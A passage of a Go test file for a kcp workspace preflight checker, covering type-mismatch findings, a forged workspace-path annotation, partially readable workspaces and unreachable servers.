			if i := slices.IndexFunc(report.Findings, func(f preflight.Finding) bool { return f.Reason == preflight.TypeDiffers }); i < 0 {
				t.Errorf("findings = %+v, want %s", report.Findings, preflight.TypeDiffers)
			} else if diff := cmp.Diff(want, report.Findings[i].Message); diff != "" {
				t.Errorf("message (-want +got):\n%s", diff)
			}
		})
	}
}

// Otherwise, an administrator would be asked to permit a service account of a workspace that the administrator trusts, and would permit another.
func TestForgedPathOfAHome(t *testing.T) {
	k := newKCP()
	k.permissions = nil
	k.clusters["root:org"][0].GetAnnotations()["kcp.io/path"] = "root:apis"
	child(k).Annotations["experimental.tenancy.kcp.io/owner"] = identity.ServiceAccountAt(homeCluster, "default", "bot").String()
	ws, err := k.checker(t).Load(t.Context(), childCluster.Path())
	if err != nil {
		t.Fatal(err)
	}
	report := k.checker(t).Check(t.Context(), ws)
	if want := "service account default/bot of " + homeCluster.String(); report.Owner.Description != want {
		t.Errorf("the owner is described as %q, want %q", report.Owner.Description, want)
	}
}

func TestWorkspaceOfWhichOnlyTheLogicalClusterMayBeRead(t *testing.T) {
	k := newKCP()
	k.closed = []string{"root:org"}
	ws, err := k.checker(t).Load(t.Context(), logicalcluster.NewPath("root:org:child"))
	if err != nil {
		t.Fatal(err)
	}
	if ws.Cluster != childCluster || ws.Owner != `{"username":"alice"}` || ws.Type != "root:org:team" {
		t.Errorf("Load() = %+v", ws)
	}
}

func TestAKCPThatDoesNotAnswerIsNoVerdict(t *testing.T) {
	checker := preflight.Checker{Client: func(logicalcluster.Path) (client.Client, error) { return nil, errors.New("connection refused") }}
	const want = "root:org:child could not be read: connection refused; connection refused"
	if _, err := checker.Load(t.Context(), logicalcluster.NewPath("root:org:child")); err == nil || err.Error() != want {
		t.Errorf("Load() error = %v, want %s", err, want)
	}
	report := checker.Check(t.Context(), preflight.Workspace{
		Path: "root:org:child", Cluster: childCluster, Phase: corev1alpha1.LogicalClusterPhaseInitializing, Type: "root:org:team",
		Owner: `{"username":"alice"}`, Waiting: []corev1alpha1.LogicalClusterInitializer{"system:apibindings"},
		Initializers: []corev1alpha1.LogicalClusterInitializer{"system:apibindings"},
	})
	if got := preflight.Verdict(report.Findings); got != preflight.Unknown {
		t.Errorf("verdict = %s of %+v", got, report.Findings)
	}
}
